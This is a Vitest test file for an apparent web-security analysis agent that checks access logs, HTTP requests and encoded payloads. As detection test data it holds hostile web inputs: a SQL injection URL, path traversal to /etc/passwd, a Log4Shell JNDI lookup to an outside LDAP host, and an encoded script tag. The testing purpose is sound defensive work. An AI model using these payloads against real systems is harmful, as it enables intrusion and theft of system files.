/** The web specialist, called as a peer calls it. */
import { expect, test } from 'vitest';
import { webSecurity } from '../../agents/web-security.ts';
import { callerOf } from '../support/caller.ts';

const { call, steps } = callerOf(webSecurity);

test('every example of every skill is answered, and the same again', async () => {
  for (const { id, examples = [] } of webSecurity.skills) {
    expect(examples.length).toBeGreaterThan(0);
    for (const example of examples) {
      expect(JSON.stringify(await call(id, example))).toBe(JSON.stringify(await call(id, example)));
    }
  }
  expect(new Set(steps)).toEqual(
    new Set(['read access log', 'judge requests', 'peel layers', 'assess web indicators']),
  );
});

test('a log names its attackers, and they are indicators', async () => {
  expect(await call('analyze_access_log', webSecurity.skills[0]!.examples![0])).toMatchObject({
    verdict: 'suspicious',
    iocs: [{ type: 'ip', value: '192.0.2.7' }],
    attackers: [{ source: '192.0.2.7', first_line: 1, last_line: 1 }],
  });
});

test('what is no log and no request is refused with its reason (4220)', async () => {
  await expect(call('analyze_access_log', { log: { text: 'hello' } })).rejects.toMatchObject({
    code: 4220,
    message: expect.stringContaining('Known are common and combined logs') as string,
  });
  await expect(call('analyze_access_log', { log: { text: '' } })).rejects.toMatchObject({ code: 4220 });
  await expect(call('analyze_http', { source: { text: 'hello' } })).rejects.toMatchObject({ code: 4220 });
});

test('indicators of the web are judged by the web judge, each cited where it stands', async () => {
  const judge = (...iocs: { type: string; value: string }[]) => call('analyze_threat', { alert_id: 'alert-1', iocs });
  const hash = { type: 'sha256', value: 'a'.repeat(64) };
  for (const [type, value, rule] of [
    ['url', "http://www.example.com/item?id=1'%20UNION%20SELECT%20a%20FROM%20b--", 'sqli'],
    ['path', '/download/../../../etc/passwd', 'lfi'],
    ['user_agent', '${jndi:ldap://192.0.2.7/a}', 'log4shell'],
    ['user-agent', 'sqlmap/1.8', 'scanner'],
  ] as const) {
    const found = await judge(hash, { type, value });
    expect(found, type).toMatchObject({
      verdict: rule === 'scanner' ? 'suspicious' : 'malicious',
      findings: expect.arrayContaining([
        expect.objectContaining({
          rule: expect.stringContaining(`${rule}/`) as string,
          evidence: [expect.objectContaining({ locator: expect.stringContaining('/iocs/1/value') as string })],
        }),
      ]) as unknown[],
      not_checked: expect.arrayContaining([
        expect.objectContaining({ what: 'indicators of type sha256' }),
      ]) as unknown[],
    });
  }
  for (const [type, value] of [
    ['path', '/index.html'],
    ['user_agent', 'Mozilla/5.0'],
    ['sha256', hash.value],
  ] as const)
    expect(await judge({ type, value }), type).toMatchObject({ verdict: 'inconclusive', confidence: 0 });
});

test('a request is given in exactly one way (-32602)', async () => {
  const request = { method: 'GET', url: 'https://www.example.com/?x=../../etc/passwd' };
  expect(await call('analyze_http', { request })).toMatchObject({ verdict: 'malicious' });
  expect(await call('analyze_http', { requests: [request] })).toMatchObject({ verdict: 'malicious' });
  await expect(call('analyze_http', {})).rejects.toMatchObject({ code: -32602 });
  await expect(call('analyze_http', { request, requests: [request] })).rejects.toMatchObject({ code: -32602 });
});

test('a payload is given in exactly one way, and as long as the judge reads (-32602)', async () => {
  const request = { method: 'GET', url: '/?x=%3Cscript%3E' };
  for (const params of [
    {},
    { payload: 'x', request },
    { payload: '' },
    { payload: 7 },
    { payload: 'x'.repeat(16_385) },
    { request: { method: 'GET' } },
  ])
    await expect(call('explain_payload', params)).rejects.toMatchObject({ code: -32602 });
  expect(await call('explain_payload', { request })).toMatchObject({
    verdict: 'malicious',
    places: [{ place: 'query value "x"', layers: [{ steps: [] }, { steps: ['percent'], text: '<script>' }] }],
  });
});
